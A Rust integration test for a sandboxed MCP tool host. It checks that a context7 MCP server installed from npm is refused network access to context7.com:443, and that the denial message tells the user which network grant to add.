async fn context7_is_told_the_host_it_needs() {
    if !npm_here() {
        return;
    }
    if !crate::server_network_namespace() {
        return;
    }
    let sandbox = Sandbox::new();
    let out = run(
        &sandbox,
        &["add", "npm:@upstash/context7-mcp@4.1.1", "--yes"],
    );
    let said = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{said}");
    assert!(said.contains("its server lists 2 tools"), "{said}");
    let input = json!({"libraryName": "react", "query": "hooks"});
    let out = call(&sandbox, "context7_resolve-library-id", input.clone());
    let grant = "grant \"network:context7.com:443\" to allow it";
    assert!(
        stderr(&out).contains(&format!(
            "note: the sandbox refused connecting to context7.com:443; {grant}"
        )),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );

    let s = crate::mcp_client::connect(&sandbox, None).await;
    let result = s
        .client
        .call_tool(crate::mcp_client::call(
            "context7_resolve-library-id",
            input,
        ))
        .await
        .unwrap();
    let meta = serde_json::to_value(&result.meta).unwrap();
    assert!(
        meta["plughost/denials"][0]
            .as_str()
            .is_some_and(|d| d.contains(grant)),
        "{meta}"
    );
    assert!(
        crate::mcp_client::text(&result).contains("fetch failed"),
        "{result:?}"
    );
    s.client.cancel().await.unwrap();
}
